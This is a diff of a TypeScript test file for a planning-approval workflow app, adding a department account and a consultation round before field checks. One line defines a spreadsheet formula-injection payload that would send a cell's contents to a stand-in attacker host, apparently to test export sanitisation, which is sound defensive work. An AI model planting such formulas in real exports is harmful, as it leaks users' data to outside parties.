@@ -5,11 +5,13 @@ import type { Feature } from 'geojson';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { StageId } from '../../src/domain/workflow/stages';
 import { type AccountServer, startWithAccounts, testAccount } from '../helpers/accounts';
+import { consultOn, TEST_DEPARTMENT } from '../helpers/consult';
 
 const ACCOUNTS = {
   admin: testAccount('sp-admin', { role: 'admin' }),
   planner: testAccount('sp-planner', { role: 'planner', canPublish: true }),
   gaopu: testAccount('sp-gaopu', { role: 'chief', person: '高朴' }), // chief of city-01 钦江
+  dept: TEST_DEPARTMENT,
 };
 type Who = keyof typeof ACCOUNTS;
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
@@ -50,6 +52,9 @@ async function save(name?: string) {
 async function advance(stages: StageId[]) {
   for (const to of stages) {
     const who: Who = to === 'review' || to === 'deliverables' ? 'gaopu' : 'planner';
+    // 意见征求 → 现场复核 needs a round in which every department replied (issue 13)
+    if (to === 'field-check')
+      await consultOn(app, { planner: 'planner', department: 'dept' }, 'city-01', 'test-dept-sthj');
     const res = await move(who, to);
     expect(res.status, `→ ${to} by ${who}: ${await res.clone().text()}`).toBe(200);
   }
